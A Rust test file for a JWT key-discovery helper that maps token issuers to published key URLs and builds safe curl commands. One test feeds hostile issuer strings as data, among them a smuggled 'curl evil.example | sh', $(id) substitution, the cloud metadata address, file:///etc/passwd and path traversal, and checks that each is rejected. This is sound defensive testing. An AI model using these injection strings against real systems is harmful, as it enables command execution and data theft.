use super::*;
use crate::jose::base64url;

fn token(header: &str, claims: &str) -> Token {
    let part = |json: &str| base64url::encode(json.as_bytes());
    Token::parse(format!("{}.{}.AAAA", part(header), part(claims)))
}

fn of(header: &str, claims: &str) -> Asking {
    what_to_ask_for(&token(header, claims))
}

fn urls(asking: &Asking) -> Vec<&str> {
    let urls = asking.places.iter().filter_map(KeyPlace::url);
    urls.map(HttpsUrl::as_str).collect()
}

const RS256: &str = r#"{"alg":"RS256"}"#;

#[test]
fn each_vendor_is_asked_where_it_publishes_its_keys() {
    for (issuer, vendor, url) in [
        (
            "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_AbCdEf123",
            "Cognito",
            "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_AbCdEf123/.well-known/jwks.json",
        ),
        (
            "https://login.microsoftonline.com/72f988bf-86f1-41af-91ab-2d7cd011db47/v2.0",
            "Entra",
            "https://login.microsoftonline.com/72f988bf-86f1-41af-91ab-2d7cd011db47/discovery/v2.0/keys",
        ),
        (
            "https://sts.windows.net/72f988bf-86f1-41af-91ab-2d7cd011db47/",
            "Entra",
            "https://login.microsoftonline.com/72f988bf-86f1-41af-91ab-2d7cd011db47/discovery/keys",
        ),
        (
            "https://contoso.ciamlogin.com/0f0e/v2.0",
            "Entra",
            "https://contoso.ciamlogin.com/0f0e/discovery/v2.0/keys",
        ),
        (
            "https://tenant.eu.auth0.com/",
            "Auth0",
            "https://tenant.eu.auth0.com/.well-known/jwks.json",
        ),
        (
            "https://dev-1.okta.com/oauth2/default",
            "Okta",
            "https://dev-1.okta.com/oauth2/default/v1/keys",
        ),
        (
            "https://dev-1.okta.com",
            "Okta",
            "https://dev-1.okta.com/oauth2/v1/keys",
        ),
        (
            "https://accounts.google.com",
            "Google",
            "https://www.googleapis.com/oauth2/v3/certs",
        ),
        (
            "accounts.google.com",
            "Google",
            "https://www.googleapis.com/oauth2/v3/certs",
        ),
        (
            "robot@my-project.iam.gserviceaccount.com",
            "Google",
            "https://www.googleapis.com/service_accounts/v1/jwk/robot@my-project.iam.gserviceaccount.com",
        ),
        (
            "https://securetoken.google.com/my-project",
            "Firebase",
            "https://www.googleapis.com/service_accounts/v1/jwk/securetoken@system.gserviceaccount.com",
        ),
        (
            "https://session.firebase.google.com/my-project",
            "Firebase",
            "https://identitytoolkit.googleapis.com/v1/sessionCookiePublicKeys",
        ),
        (
            "https://id.example:8443/realms/main",
            "Keycloak",
            "https://id.example:8443/realms/main/protocol/openid-connect/certs",
        ),
        (
            "https://id.example/auth/realms/main",
            "Keycloak",
            "https://id.example/auth/realms/main/protocol/openid-connect/certs",
        ),
        (
            "https://token.actions.githubusercontent.com",
            "GitHub",
            "https://token.actions.githubusercontent.com/.well-known/jwks",
        ),
        (
            "https://ghes.example/_services/token",
            "GitHub",
            "https://ghes.example/_services/token/.well-known/jwks",
        ),
        (
            "https://gitlab.com",
            "GitLab",
            "https://gitlab.com/oauth/discovery/keys",
        ),
        (
            "https://appleid.apple.com",
            "Apple",
            "https://appleid.apple.com/auth/keys",
        ),
        (
            "https://abcdefghijklmnop.supabase.co/auth/v1",
            "Supabase",
            "https://abcdefghijklmnop.supabase.co/auth/v1/.well-known/jwks.json",
        ),
        (
            "https://oidc.eks.us-east-1.amazonaws.com/id/1F0E",
            "Kubernetes",
            "https://oidc.eks.us-east-1.amazonaws.com/id/1F0E/keys",
        ),
        (
            "https://container.googleapis.com/v1/projects/p/locations/europe-west1/clusters/c",
            "Kubernetes",
            "https://container.googleapis.com/v1/projects/p/locations/europe-west1/clusters/c/jwks",
        ),
        (
            "https://team.cloudflareaccess.com",
            "Cloudflare Access",
            "https://team.cloudflareaccess.com/cdn-cgi/access/certs",
        ),
    ] {
        let asking = of(RS256, &format!(r#"{{"iss":"{issuer}"}}"#));
        assert_eq!(asking.vendor.as_deref(), Some(vendor), "{issuer}");
        assert_eq!(urls(&asking).first(), Some(&url), "{issuer}");
        let first = asking.places.first().unwrap();
        assert_eq!(first.answer, Answer::KeySet);
        assert!(asking.notes.is_empty(), "{issuer}: {:?}", asking.notes);
        assert_eq!(what_to_ask_issuer_for(issuer), asking);
    }
}

#[test]
fn a_cluster_is_asked_through_kubectl() {
    for claims in [
        r#"{"iss":"kubernetes/serviceaccount"}"#,
        r#"{"iss":"https://kubernetes.default.svc.cluster.local"}"#,
        r#"{"iss":"https://kubernetes.default.svc","kubernetes.io":{}}"#,
        r#"{"iss":"https://cluster.example","kubernetes.io":{"namespace":"a"}}"#,
    ] {
        let asking = of(RS256, claims);
        let first = asking.places.first().unwrap();
        assert_eq!(
            first.command(),
            "kubectl get --raw /openid/v1/jwks",
            "{claims}"
        );
        assert_eq!(asking.vendor.as_deref(), Some("Kubernetes"));
        assert!(asking.notes.is_empty(), "{claims}");
    }
}

#[test]
fn other_members_tell_a_vendor_too() {
    let alb = r#"{"alg":"ES256","kid":"11112222-3333","signer":"arn:aws:elasticloadbalancing:eu-west-1:123456789012:loadbalancer/app/web/50dc6c495c0c9188"}"#;
    let asking = of(alb, r#"{"iss":"https://idp.example","sub":"a"}"#);
    assert_eq!(asking.vendor.as_deref(), Some("AWS load balancer"));
    assert_eq!(
        urls(&asking)[0],
        "https://public-keys.auth.elb.eu-west-1.amazonaws.com/11112222-3333"
    );
    assert_eq!(asking.places[0].answer, Answer::Key);
    let odd = alb.replace("11112222-3333", "../../x");
    assert!(urls(&of(&odd, r#"{"sub":"a"}"#)).is_empty());

    let asking = of(
        RS256,
        r#"{"iss":"https://b.b2clogin.com/0f0e/v2.0/","tfp":"B2C_1_in"}"#,
    );
    assert_eq!(
        urls(&asking)[0],
        "https://b.b2clogin.com/0f0e/B2C_1_in/discovery/v2.0/keys"
    );

    let asking = of(RS256, r#"{"iss":"supabase","ref":"abcdef","role":"anon"}"#);
    assert_eq!(
        urls(&asking),
        ["https://abcdef.supabase.co/auth/v1/.well-known/jwks.json"]
    );
    let asking = of(RS256, r#"{"iss":"supabase","ref":"evil.example/"}"#);
    assert!(urls(&asking).is_empty() && asking.notes.len() == 1);

    let asking = of(
        RS256,
        r#"{"iss":"https://git.example","ci_config_ref_uri":"git.example/a"}"#,
    );
    assert_eq!(urls(&asking)[0], "https://git.example/oauth/discovery/keys");

    let asking = of(r#"{"alg":"ES256","x5c":[]}"#, r#"{"bundleId":"a.b"}"#);
    assert!(asking.places[0].command().contains(" --remote-name '"));
}

#[test]
fn any_issuer_has_the_places_of_the_standards() {
    let asking = of(RS256, r#"{"iss":"https://id.example/tenant/1/"}"#);
    assert_eq!(
        urls(&asking),
        [
            "https://id.example/tenant/1/.well-known/openid-configuration",
            "https://id.example/.well-known/oauth-authorization-server/tenant/1",
            "https://id.example/tenant/1/.well-known/jwks.json",
        ]
    );
    assert_eq!(asking.vendor, None);
    let asking = of(
        r#"{"alg":"ES256","typ":"application/dc+sd-jwt"}"#,
        r#"{"iss":"https://vc.example/a"}"#,
    );
    assert_eq!(
        urls(&asking)[0],
        "https://vc.example/.well-known/jwt-vc-issuer/a"
    );
    let asking = of(
        r#"{"alg":"ES256","typ":"entity-statement+jwt"}"#,
        r#"{"iss":"https://op.example/a"}"#,
    );
    assert_eq!(
        urls(&asking)[0],
        "https://op.example/a/.well-known/openid-federation"
    );
    assert_eq!(asking.places[0].answer, Answer::EntityStatement);
}

#[test]
fn hostile_issuers_give_no_address_and_say_why() {
    for issuer in [
        "http://id.example",
        "https://127.0.0.1/realms/a",
        "https://[::1]/realms/a",
        "https://169.254.169.254/latest/meta-data",
        "https://user@id.example/",
        "https://accounts.google.com@evil.example/",
        "https://id.example/../../etc",
        "https://id.example/%2e%2e/realms/a",
        "https://id.example/'; curl evil.example | sh; '",
        "https://id.example/$(id)/realms/a",
        "https://id.example/`id`",
        "https://id.example/a b",
        "https://id.example/?x=y",
        "https://id.example/#a",
        "https://\u{430}pple.com",
        "https://id.example/\u{202e}x",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "../../etc/passwd",
        "'; id; '",
        "-o/tmp/x",
        "https://id.example:99999",
        "https://id.example\\.evil.example",
        "robot@evil.example/x@a.iam.gserviceaccount.com",
        "https://login.microsoftonline.com/../x/v2.0",
    ] {
        let claims = serde_json::json!({ "iss": issuer }).to_string();
        let asking = of(RS256, &claims);
        assert!(asking.places.is_empty(), "{issuer}: {:?}", asking.places);
        let [note] = &asking.notes[..] else {
            panic!("{issuer}: {:?}", asking.notes);
        };
        let text = note.to_string();
        assert_eq!(text.lines().count(), 2, "{text}");
        assert!(text.len() < 400 && !text.contains('\u{202e}'), "{text}");
    }
    let claims = format!(r#"{{"iss":"https://a.example/{}"}}"#, "a".repeat(1 << 20));
    let asking = of(RS256, &claims);
    assert!(asking.places.is_empty());
    assert!(asking.notes[0].to_string().len() < 400);
}

#[test]
fn every_command_is_one_line_of_plain_characters() {
    for issuer in [
        "https://id.example/a,b=c&d@e/realms/x",
        "https://id.example:8443/realms/my%20realm",
        "https://localhost/realms/a",
        "https://xn--pple-43d.com",
    ] {
        for place in what_to_ask_issuer_for(issuer).places {
            let command = place.command();
            let (before, url) = command.split_once(" 'https://").unwrap();
            let url = url.strip_suffix('\'').unwrap();
            assert!(before.starts_with("curl -sSf --proto '=https' "));
            let plain = |c: char| c.is_ascii_alphanumeric() || "-._~/:@+,=&?%".contains(c);
            assert!(url.chars().all(plain), "{command}");
            assert!(command.len() < MAX_ADDRESS_BYTES + 200);
        }
    }
}

#[test]
fn what_to_look_at_first_is_said() {
    let cautions = |issuer| what_to_ask_issuer_for(issuer).places.remove(0).cautions;
    assert_eq!(cautions("https://id.example:8443"), [Caution::Port(8443)]);
    assert_eq!(cautions("https://idp"), [Caution::InnerName]);
    assert_eq!(cautions("https://xn--pple-43d.com"), [Caution::Punycode]);
    assert!(cautions("https://id.example").is_empty());
}

#[test]
fn addresses_that_the_token_chose_come_last_and_say_so() {
    let asking = of(
        r#"{"alg":"RS256","jku":"https://evil.example/jwks","x5u":"http://evil.example/c"}"#,
        r#"{"iss":"https://id.example"}"#,
    );
    let last = asking.places.last().unwrap();
    assert_eq!(last.url().unwrap().as_str(), "https://evil.example/jwks");
    assert_eq!(last.cautions, [Caution::ChosenByToken("jku")]);
    assert!(last.cautions[0].to_string().contains("chose this place"));
    assert_eq!(asking.places.len(), 4);
    assert!(matches!(
        asking.notes[..],
        [AskingNote::OddAddress { name: "x5u", .. }]
    ));
    // The issuer's own place is not said to be the token's choice.
    let asking = of(
        r#"{"alg":"RS256","jku":"https://id.example/.well-known/jwks.json"}"#,
        r#"{"iss":"https://id.example"}"#,
    );
    assert_eq!(asking.places.len(), 3);
    assert!(asking.places.iter().all(|place| place.cautions.is_empty()));
}

#[test]
fn what_is_published_nowhere_is_said() {
    let asking = of(r#"{"alg":"HS256"}"#, r#"{"iss":"https://id.example"}"#);
    assert!(matches!(&asking.notes[..], [AskingNote::Secret { alg }] if alg == "HS256"));
    assert!(!asking.places.is_empty());
    let jwe = format!(
        "{}.AAAA.AAAA.AAAA.AAAA",
        base64url::encode(br#"{"alg":"RSA-OAEP","enc":"A256GCM"}"#)
    );
    let asking = what_to_ask_for(&Token::parse(jwe));
    assert_eq!(
        (asking.notes, asking.places),
        (vec![AskingNote::Encrypted], vec![])
    );
    let asking = of(RS256, r#"{"sub":"a"}"#);
    assert_eq!(
        (asking.notes, asking.places),
        (vec![AskingNote::NoIssuer], vec![])
    );
    let asking = of(RS256, r#"{"iss":"did:web:id.example"}"#);
    assert!(matches!(asking.notes[..], [AskingNote::Did { .. }]));
}

/// The two tables that know issuers by their form agree.
#[test]
fn vendors_are_called_what_the_registry_calls_them() {
    for issuer in [
        "https://tenant.auth0.com/",
        "https://accounts.google.com",
        "https://gitlab.com",
        "https://x.supabase.co/auth/v1",
        "https://login.microsoftonline.com/t/v2.0",
        "https://x.okta.com",
        "https://appleid.apple.com",
    ] {
        let said = Said {
            issuer: Some(issuer),
            token: None,
        };
        let rows: Vec<_> = ROWS
            .iter()
            .filter(|row| row.place(&said).is_some())
            .collect();
        assert!(!rows.is_empty(), "{issuer}");
        for row in rows {
            assert_eq!(Some(row.vendor.as_str()), registry::of_issuer(issuer));
        }
    }
}
